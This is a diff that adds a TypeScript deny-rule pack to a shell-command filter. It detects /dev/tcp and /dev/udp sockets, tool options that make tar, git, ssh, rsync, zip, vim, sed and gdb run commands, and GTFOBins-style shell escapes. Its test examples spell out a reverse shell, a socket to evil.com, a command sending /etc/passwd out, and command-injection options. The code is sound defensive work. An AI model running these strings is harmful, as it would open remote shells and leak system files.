@@ -1,0 +1,237 @@
+/** Bypass pack: `/dev/tcp` sockets, options that make ordinary tools run commands, and shell escapes. */
+
+import type {Cmd} from '../../command.js'
+
+import {SHELLS} from '../../normalise.js'
+import {commandRule} from '../../rules.js'
+
+export const devTcp = commandRule({
+  id: 'bypass.dev-tcp',
+  pack: 'bypass',
+  decision: 'deny',
+  reason: 'opens a network socket through /dev/tcp or /dev/udp (reverse shells)',
+  examples: {
+    match: [
+      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+      'exec 3<>/dev/tcp/evil.com/80',
+      'cat < /dev/tcp/127.0.0.1/22',
+      'echo x > /dev/udp/1.2.3.4/53',
+      "sh -c 'cat /etc/passwd > /dev/tcp/x/1'",
+    ],
+    not_match: ['ls /dev', 'echo tcp'],
+  },
+  check(cmd) {
+    if (/\/dev\/(?:tcp|udp)\//.test(cmd.text)) return true
+    for (const w of cmd.args) if (/\/dev\/(?:tcp|udp)\//.test(w.value)) return true
+    for (const r of cmd.raw.redirects) if (r.target && /\/dev\/(?:tcp|udp)\//.test(r.target.value)) return true
+    return null
+  },
+})
+
+const GIT_EXEC_KEYS = new RegExp(
+  String.raw`^(?:core\.(?:sshcommand|pager|editor|fsmonitor|hookspath|gitproxy|` +
+    String.raw`askpass)|alias\..*|diff\..*\.(?:textconv|command)|filter\..*\.(?:clean|` +
+    String.raw`smudge|process)|credential\.helper|protocol\..*\.allow|uploadpack\..*|` +
+    String.raw`receivepack\..*|sequence\.editor|gpg\.program|gpg\..*\.program|` +
+    String.raw`merge\..*\.driver|include\.path|includeif\..*)(?:=|$)`,
+  'i',
+)
+
+function toolRunsCommand(cmd: Cmd): null | string {
+  const a = cmd.argv
+  switch (cmd.name) {
+    case 'tar': {
+      const hit = a.find(
+        (v) =>
+          new RegExp(
+            String.raw`^--(?:to-command|checkpoint-action|use-compress-program|info-script|` +
+              String.raw`new-volume-script|rsh-command)(?:=|$)`,
+          ).test(v) || /^-[A-Za-z]*[IF]$/.test(v),
+      )
+      return hit ? `tar ${hit}` : null
+    }
+
+    case 'git': {
+      for (let i = 0; i < a.length; i++) {
+        const v = a[i] as string
+        if (v === '-c' && GIT_EXEC_KEYS.test(a[i + 1] ?? '')) return `git -c ${a[i + 1]}`
+        if (/^--config(?:-env)?=/.test(v) && GIT_EXEC_KEYS.test(v.replace(/^--config(?:-env)?=/, ''))) return `git ${v}`
+        if (/^--(?:upload-pack|receive-pack|exec)(?:=|$)/.test(v) || v.startsWith('ext::')) return `git ${v}`
+      }
+
+      const sub = a.indexOf('config')
+      if (sub !== -1) {
+        const key = a.slice(sub + 1).find((v) => !v.startsWith('-'))
+        const writes = a.slice(sub + 1).filter((v) => !v.startsWith('-')).length >= 2 || a.includes('--add')
+        if (key !== undefined && writes && GIT_EXEC_KEYS.test(key)) return `git config ${key}`
+      }
+
+      return null
+    }
+
+    case 'ssh':
+    case 'scp':
+    case 'sftp':
+    case 'rsync': {
+      for (let i = 0; i < a.length; i++) {
+        const v = a[i] as string
+        const opt = v === '-o' ? (a[i + 1] ?? '') : v.startsWith('-o') ? v.slice(2) : ''
+        if (/^(?:ProxyCommand|LocalCommand|PermitLocalCommand|KnownHostsCommand|ProxyUseFdpass)/i.test(opt))
+          return `${cmd.name} -o ${opt}`
+        if (cmd.name === 'scp' && v === '-S') return `scp -S ${a[i + 1] ?? ''}`
+        if (cmd.name === 'rsync') {
+          const rsh = v === '-e' ? a[i + 1] : /^--rsh=(.*)$/.exec(v)?.[1]
+          if (rsh !== undefined && !/^(?:ssh|rsh)(?:\s|$)/.test(rsh)) return `rsync -e ${rsh}`
+        }
+      }
+
+      return null
+    }
+
+    case 'zip': {
+      return a.some((v) => v === '-TT' || v.startsWith('--unzip-command')) ? 'zip -TT' : null
+    }
+
+    case 'vim':
+    case 'vi':
+    case 'nvim':
+    case 'ex':
+    case 'view':
+    case 'gvim': {
+      const hit = a.find(
+        (v, i) =>
+          (/^\+/.test(v) || a[i - 1] === '-c' || a[i - 1] === '--cmd') && /!|system\(|:r\s*!|py|lua|call\s/.test(v),
+      )
+      return hit ? `${cmd.name} runs ${hit}` : null
+    }
+
+    case 'gdb': {
+      return a.some((v) => /^(?:-ex|--eval-command|-x|--command|-iex|-batch)/.test(v)) ? 'gdb runs commands' : null
+    }
+
+    case 'tcpdump': {
+      return a.includes('-z') ? 'tcpdump -z runs a command' : null
+    }
+
+    case 'man': {
+      return a.some((v) => /^(?:-P|--pager|-H|--html)/.test(v)) ? 'man with a custom pager' : null
+    }
+
+    case 'sed': {
+      const scripts = a.filter((v, i) => !v.startsWith('-') || a[i - 1] === '-e')
+      const hit = scripts.find(
+        (s) =>
+          /(?:^|[;\n{}])\s*(?:\d+|\$|\/[^/]*\/)?\s*e(?:\s|$|;)/.test(s) ||
+          /s(.)(?:\\.|(?!\1).)*\1(?:\\.|(?!\1).)*\1[gpIiMm0-9w]*e/.test(s),
+      )
+      return hit ? `sed runs commands (${hit})` : null
+    }
+
+    case 'nmap': {
+      return a.some((v) => v.startsWith('--script')) ? 'nmap --script' : null
+    }
+
+    default: {
+      return null
+    }
+  }
+}
+
+export const toolRuns = commandRule({
+  id: 'bypass.tool-runs-command',
+  pack: 'bypass',
+  decision: 'deny',
+  reason: 'an option that makes an ordinary tool run an arbitrary command',
+  programs: [
+    'tar',
+    'git',
+    'ssh',
+    'scp',
+    'sftp',
+    'rsync',
+    'zip',
+    'vim',
+    'vi',
+    'nvim',
+    'ex',
+    'view',
+    'gvim',
+    'gdb',
+    'tcpdump',
+    'man',
+    'sed',
+    'nmap',
+  ],
+  examples: {
+    match: [
+      'tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh',
+      'git -c core.sshCommand="sh -c id" fetch',
+      'git config core.hooksPath /tmp/h',
+      'ssh -o ProxyCommand="sh -c id" x',
+      'zip x.zip f -T -TT "sh -c id"',
+      'vim -c ":!id" -c ":q"',
+      "sed -n '1e id' f",
+      'git clone ext::sh -c id',
+      'rsync -e "sh -c id" a b',
+    ],
+    not_match: [
+      'tar -czf out.tgz ./src',
+      'git status',
+      'git config user.name me',
+      'ssh -o StrictHostKeyChecking=no localhost',
+      "sed -i 's/a/b/g' f",
+      'vim file.txt',
+      'rsync -e "ssh -p 2222" ./a localhost:b',
+    ],
+  },
+  check: (cmd) => toolRunsCommand(cmd),
+})
+
+/** Tools GTFOBins lists as shell escapes when they start a shell of their own. */
+const ESCAPE_TOOLS = new Set([
+  'find',
+  'xargs',
+  'awk',
+  'gawk',
+  'vim',
+  'vi',
+  'less',
+  'more',
+  'man',
+  'gdb',
+  'git',
+  'ftp',
+  'nmap',
+  'zip',
+  'tar',
+  'rsync',
+  'perl',
+  'python',
+  'ruby',
+  'lua',
+  'expect',
+  'script',
+  'socat',
+  'flock',
+  'watch',
+  'nice',
+  'stdbuf',
+  'busybox',
+])
+
+export const shellEscape = commandRule({
+  id: 'bypass.shell-escape',
+  pack: 'bypass',
+  decision: 'deny',
+  reason: 'starts a bare shell through another program (a GTFOBins-style escape)',
+  examples: {
+    match: [String.raw`find . -exec /bin/sh \; -quit`, 'xargs -a /dev/null sh', 'script -qc /bin/bash /dev/null'],
+    not_match: ['bash ./build.sh', String.raw`find . -exec sh -c "wc -l {}" \;`, 'sh -c ls'],
+  },
+  check(cmd) {
+    if (!SHELLS.has(cmd.name) || cmd.code === undefined || cmd.code.kind !== 'stdin') return null
+    const tool = cmd.via.map((v) => v.split(' ')[0] ?? '').find((n) => ESCAPE_TOOLS.has(n))
+    if (tool === undefined || cmd.raw.redirects.some((r) => r.heredoc || r.op === '<<<')) return null
+    return `${tool} starts a bare ${cmd.name}`
+  },
+})
